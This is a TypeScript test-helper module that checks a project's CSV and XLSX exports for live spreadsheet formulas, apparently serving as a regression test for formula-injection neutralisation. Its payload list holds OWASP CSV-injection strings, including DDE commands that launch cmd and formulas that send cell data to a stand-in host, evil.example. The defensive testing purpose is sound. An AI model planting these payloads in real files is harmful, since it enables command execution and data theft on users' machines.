// Hostile inputs shared by the issue #9 tests and the hostile battery (test/hostile): formula-injection payloads
// (OWASP « CSV Injection »), the invisible prefixes that slipped past the old neutralisation, and readers that find
// every text cell of an export (CSV or XLSX) to check that none of them is a live formula.
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { loadExcelJS } from '../../src/io/exceljs-loader.js';

/** OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and classic variants. */
export const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?d="&C2&D2;"Cliquez")',
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+2";=1+2',
  '=IMPORTXML(CONCAT("http://evil.example/?v=";CONCATENATE(A2:E2));"//a")',
  '=WEBSERVICE("http://evil.example/")',
];

/** Prefixes a spreadsheet skips before deciding that a cell is a formula (the first three came from the issue). */
export const INVISIBLE_PREFIXES = ['', '\0', '\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\ufeff', '\u2060', '\x1b', '\x7f', '\u0085', '\0\t \r'];

/** Every payload behind every prefix. */
export const PREFIXED_PAYLOADS = INVISIBLE_PREFIXES.flatMap((p) => OWASP_PAYLOADS.map((x) => p + x));

/** A cell carries one of our payloads (so that a test can check it found some). */
export const carriesPayload = (cell: string) => /cmd\||evil\.example|=1\+2/.test(cell);

/** What a spreadsheet would evaluate: first visible character = + - @ with no leading apostrophe, or a tab/CR start. */
export function liveFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  return /^[\t\r]/.test(cell) || /^[\s\p{Cc}\p{Cf}]*[=+\-@]/u.test(cell);
}

/** Every string cell of a CSV (any of ; , tab) or XLSX file (every sheet, title rows included). */
export async function textCells(file: string): Promise<string[]> {
  if (file.endsWith('.xlsx')) {
    const wb = new (loadExcelJS().Workbook)();
    await wb.xlsx.readFile(file);
    const out: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'string') out.push(c.value);
          else if (c.value && typeof c.value === 'object' && 'formula' in c.value) out.push(`=${String(c.value.formula)}`);
        }),
      ),
    );
    return out;
  }
  const text = fs.readFileSync(file, 'utf8').replace(/^\uFEFF/, '');
  const firstLine = text.slice(0, text.search(/\r?\n/));
  const delimiter = firstLine.includes(';') ? ';' : firstLine.includes('\t') ? '\t' : ',';
  return (parse(text, { delimiter, relax_column_count: true }) as string[][]).flat();
}

/** Files under `dir` (recursively) that are tabular exports. */
export function tabularFiles(dir: string): string[] {
  return fs
    .readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((f) => /\.(csv|xlsx)$/.test(f))
    .map((f) => path.join(dir, f));
}
